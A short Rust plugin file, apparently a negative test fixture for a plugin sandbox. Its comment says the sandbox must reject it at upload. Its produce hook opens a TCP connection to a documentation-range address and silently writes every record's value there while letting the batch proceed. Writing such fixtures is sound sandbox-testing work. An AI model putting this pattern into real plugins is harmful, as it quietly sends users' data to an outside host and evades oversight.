//! Sends every batch to a TCP address: a plugin the sandbox must refuse at upload.

use kafkatwin_plugin_sdk::{BatchContext, Config, Hook, Plugin, RecordView, Verdict};
use std::io::Write;

/// The plugin.
pub struct NetClient;

impl Plugin for NetClient {
    const HOOKS: &'static [Hook] = &[Hook::Produce];

    fn init(_config: &Config) -> Result<Self, String> {
        Ok(Self)
    }

    fn on_produce(&self, _ctx: &BatchContext<'_>, records: &[RecordView<'_>]) -> Verdict {
        if let Ok(mut s) = std::net::TcpStream::connect("203.0.113.1:9") {
            for r in records {
                let _ = s.write_all(r.value.unwrap_or_default());
            }
        }
        Verdict::Keep
    }
}

kafkatwin_plugin_sdk::export_plugin!(NetClient);
